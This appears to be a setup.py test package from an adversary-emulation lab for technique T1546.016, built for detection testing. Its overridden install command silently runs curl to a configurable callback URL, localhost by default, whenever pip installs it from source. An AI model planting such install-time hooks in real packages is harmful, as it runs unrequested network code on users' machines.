"""T1546.016 test 2: a source package whose setuptools `install` command hook runs curl.

The hook (a cmdclass override of `install`) fires whenever pip builds or installs the package from
source: in the legacy `setup.py install` child with Debian's pip 23.0.1, or inside `bdist_wheel`
when pip builds a wheel (lab-recipes §3.2). It calls back to ATOMIC_CALLBACK_URL with curl, so the
process chain is pip -> python (setup.py) -> curl, and appends one line to ATOMIC_HOOK_LOG (if set)
as proof that it ran.
"""
import os
import subprocess
import sys

from setuptools import setup
from setuptools.command.install import install

CALLBACK = os.environ.get("ATOMIC_CALLBACK_URL", "http://127.0.0.1:8765/t2?marker=none")


def _callback(stage):
    log = os.environ.get("ATOMIC_HOOK_LOG")
    if log:
        with open(log, "a") as fh:
            fh.write("%s pid=%d ppid=%d argv=%r\n" % (stage, os.getpid(), os.getppid(), sys.argv))
    sep = "&" if "?" in CALLBACK else "?"
    subprocess.call(["curl", "-s", "-o", "/dev/null", CALLBACK + sep + "stage=" + stage])


class InstallWithHook(install):
    def run(self):
        install.run(self)
        _callback("install")


setup(
    name="atomic-t1546-pkg",
    version="0.1.0",
    description="atomic-lab T1546.016 test package (install hook calls back with curl)",
    py_modules=["atomic_t1546"],
    cmdclass={"install": InstallWithHook},
)
